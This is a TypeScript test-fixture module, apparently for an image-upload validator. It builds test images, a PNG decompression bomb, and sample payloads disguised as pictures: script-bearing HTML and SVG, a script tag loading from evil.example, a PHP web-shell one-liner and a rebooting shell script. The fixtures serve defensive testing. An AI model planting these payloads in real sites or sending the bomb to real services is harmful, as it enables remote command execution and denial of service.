import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A plain picture: left half one color, right half another. */
export function imageFile(width = 60, height = 40) {
  const half = { create: { width: Math.ceil(width / 2), height, channels: 3 as const, background: '#0000ff' } }
  return sharp({ create: { width, height, channels: 3, background: '#ff0000' } }).composite([
    { input: half, gravity: 'east' },
  ])
}

/**
 * The color in the middle of each quarter, clockwise from the top left: `r`, `g`, `b` or `w`; `?` for any
 * other.
 */
export async function quarters(webp: Buffer): Promise<string> {
  const { data, info } = await sharp(webp).removeAlpha().raw().toBuffer({ resolveWithObject: true })
  const at = (x: number, y: number) => {
    const start = (Math.floor(y * info.height) * info.width + Math.floor(x * info.width)) * info.channels
    const signs = [...data.subarray(start, start + 3)].map((value) => (value > 200 ? 1 : value < 60 ? 0 : 2)).join('')
    return { '100': 'r', '010': 'g', '001': 'b', '111': 'w' }[signs] ?? '?'
  }
  return [at(0.25, 0.25), at(0.75, 0.25), at(0.75, 0.75), at(0.25, 0.75)].join('')
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** A valid PNG of one color whose file is a thousandth of its decoded size. */
export function bomb(side = 30_000): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(side * (Math.ceil(side / 8) + 1)), { level: 1 })
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

/** Files that are not pictures, by name. */
export const invalidImages: Readonly<Record<string, Buffer>> = {
  'nothing at all': Buffer.alloc(0),
  'a page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a vector graphic with a script': Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
  ),
  'a document': Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
  'a signature with nothing behind it': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  noise: Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7_919) % 251)),
}

/** Files that may be hidden behind a picture, by name. */
export const hiddenFiles: Readonly<Record<string, Buffer>> = {
  'a page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a script of a page': Buffer.from('*/ <SCRIPT src=//evil.example></SCRIPT>'),
  'a vector graphic': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
  'a server’s script': Buffer.from('<?php system($_GET[0]); ?>'),
  'a document': Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
  'a shell script': Buffer.from('#!/bin/sh\nreboot\n'),
  'a program for Windows': Buffer.from('MZ\x90\0\x03', 'latin1'),
  'a program for Linux': Buffer.from('\x7fELF\x02\x01', 'latin1'),
  'an archive': Buffer.from(
    `PK\x03\x04${'x'.repeat(40)}PK\x01\x02${'x'.repeat(40)}PK\x05\x06${'\0'.repeat(18)}`,
    'latin1',
  ),
  'another archive': Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'),
}
